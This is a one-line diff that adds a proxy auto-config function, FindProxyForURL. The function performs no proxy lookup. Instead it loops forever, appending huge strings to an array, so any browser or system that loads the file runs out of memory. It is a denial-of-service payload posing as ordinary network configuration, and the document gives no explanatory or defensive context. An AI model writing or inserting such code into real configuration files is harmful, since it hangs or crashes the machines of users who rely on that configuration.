@@ -1,0 +1,1 @@
+function FindProxyForURL(u, h) { var a = []; for (;;) a.push(new Array(1e5).join('x')); }
